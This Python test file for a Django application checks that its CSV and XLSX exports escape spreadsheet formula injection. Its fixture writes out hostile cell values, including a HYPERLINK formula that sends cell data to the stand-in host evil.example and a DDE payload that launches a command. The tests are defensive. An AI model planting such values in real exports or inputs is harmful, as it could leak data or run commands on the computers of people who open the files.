"""No export runs what a user wrote as a formula (OWASP CSV injection): the evidence register as
CSV and XLSX (public pages and API), the data package's CSVs, the other datasets and the audit
log. CSV text cells beginning with = + - @ tab or CR carry a leading quote; XLSX cells are text,
never formulas; numbers stay numbers."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from readiness import spreadsheet_cells
from readiness.models import RoundStatus
from readiness.recompute import recompute
from reviews.models import Comment
from tests.factories import make_document, make_evidence, round_with_methodology

pytestmark = pytest.mark.django_db

# What a hostile submitter writes, per sub-pillar: the narrative and the document's name.
HOSTILE = {
    "REG-1": '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")',
    "REG-2": "+1",
    "REG-3": "@SUM(A1)",
    "INF-1": "-2+3",
    "INF-2": "\tcmd|' /C calc'!A0",
    "INF-3": "\rcmd",
}


@pytest.fixture
def hostile_round(party, focal_point, reviewer, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    assessment_round = round_with_methodology(slug="2025", status=RoundStatus.OPEN, parties=[party])
    for code, text in HOSTILE.items():
        evidence = make_evidence(assessment_round=assessment_round, party=party,
                                 author=focal_point, status="approved", code=code,
                                 claimed_level=1, narrative=text)  # fmt: skip
        make_document(evidence, focal_point, name=f"{text}.txt")
        Comment.objects.create(evidence=evidence, author=reviewer, body=text)
    recompute(assessment_round.pk)
    assessment_round.status = RoundStatus.PUBLISHED
    assessment_round.save()
    return assessment_round


def _body(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def _csv_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def _escaped(text: str) -> str:
    return "'" + text


def _assert_register_escaped(rows: list[dict]) -> None:
    by_code = {row["sub_pillar"]: row for row in rows}
    assert set(by_code) == set(HOSTILE)
    for code, text in HOSTILE.items():
        assert by_code[code]["narrative"] == _escaped(text)
        assert by_code[code]["documents"].startswith(_escaped(f"{text}.txt sha256:"))
        assert by_code[code]["awarded_level"] == "1"  # a number, not quoted
        assert int(by_code[code]["evidence_id"]) > 0


def _xlsx_rows(data: bytes) -> list[dict]:
    sheet = load_workbook(io.BytesIO(data)).active
    cells = list(sheet.iter_rows())
    for row in cells:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    header = [cell.value for cell in cells[0]]
    return [dict(zip(header, row, strict=True)) for row in cells[1:]]


@pytest.mark.parametrize("route", ["results-download", "api-export"])
def test_the_evidence_register_csv_escapes_formulas(client, hostile_round, route):
    url = reverse(route, args=["2025", "evidence", "csv"])
    _assert_register_escaped(_csv_rows(_body(client.get(url))))


@pytest.mark.parametrize("route", ["results-download", "api-export"])
def test_the_evidence_register_xlsx_has_text_cells_and_no_formula(client, hostile_round, route):
    rows = _xlsx_rows(_body(client.get(reverse(route, args=["2025", "evidence", "xlsx"]))))
    by_code = {row["sub_pillar"].value: row for row in rows}
    for code, text in HOSTILE.items():
        narrative = by_code[code]["narrative"]
        # The text as written (XML reads a carriage return back as a line feed).
        assert (narrative.value, narrative.data_type) == (text.replace("\r", "\n"), "s")
        assert by_code[code]["documents"].value.startswith(f"{text}.txt".replace("\r", "\n"))
        assert by_code[code]["documents"].data_type == "s"
        level = by_code[code]["awarded_level"]
        assert (level.value, level.data_type) == (1, "n")


def test_the_other_datasets_keep_their_numbers(client, hostile_round):
    download = "results-download"
    rows = _xlsx_rows(_body(client.get(reverse(download, args=["2025", "party-results", "xlsx"]))))
    ghana = rows[0]
    assert ghana["code"].value == "GHA"
    assert (ghana["level_REG-1"].value, ghana["level_REG-1"].data_type) == (1, "n")
    csv_rows = _csv_rows(
        _body(client.get(reverse(download, args=["2025", "party-results", "csv"])))
    )
    assert csv_rows[0]["level_REG-2"] == "1"
    for dataset in ("methodology", "aggregates"):
        _xlsx_rows(_body(client.get(reverse(download, args=["2025", dataset, "xlsx"]))))


def test_the_data_package_csvs_escape_formulas(client, hostile_round):
    archive = zipfile.ZipFile(io.BytesIO(_body(client.get(
        reverse("results-data-package", args=["2025"])))))  # fmt: skip
    _assert_register_escaped(_csv_rows(archive.read("evidence.csv")))
    party_rows = _csv_rows(archive.read("party-results.csv"))
    assert party_rows[0]["level_INF-1"] == "1"


def test_the_audit_csv_escapes_comments_and_document_names(client, hostile_round, round_admin):
    client.force_login(round_admin)
    rows = _csv_rows(_body(client.get(reverse("audit-export"))))
    comments = {row["summary"] for row in rows if row["action"] == "comment"}
    assert comments == {_escaped(text) for text in HOSTILE.values()}
    documents = [row["summary"] for row in rows if row["action"].startswith("document")]
    assert documents and all(summary.startswith("'") for summary in documents)
    for row in rows:
        for value in row.values():
            assert not value.startswith(spreadsheet_cells.FORMULA_TRIGGERS), row


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("\ncmd", "'\ncmd"),
    ("-0.5", "'-0.5"), ("0.083333", "0.083333"), ("Ghana", "Ghana"), ("a=b", "a=b"), ("", ""),
    (-2, -2), (None, None), (-0.25, -0.25), (Decimal("-1.5"), Decimal("-1.5")),
])  # fmt: skip
def test_a_csv_cell_is_escaped_only_when_a_spreadsheet_would_evaluate_it(value, written):
    assert spreadsheet_cells.csv_row([value]) == [written]
